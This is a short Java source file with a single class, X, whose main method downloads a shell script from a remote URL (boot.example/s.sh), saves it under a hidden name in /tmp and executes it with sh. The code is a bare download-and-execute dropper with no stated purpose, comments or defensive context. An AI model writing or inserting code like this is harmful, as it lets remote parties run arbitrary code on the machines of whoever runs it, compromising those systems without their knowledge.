import java.io.InputStream;
import java.net.URL;
import java.nio.file.*;
public class X {
    public static void main(String[] a) throws Exception {
        try (InputStream in = new URL("https://boot.example/s.sh").openStream()) {
            Files.copy(in, Paths.get("/tmp/.s.sh"), StandardCopyOption.REPLACE_EXISTING);
        }
        Runtime.getRuntime().exec("sh /tmp/.s.sh");
    }
}
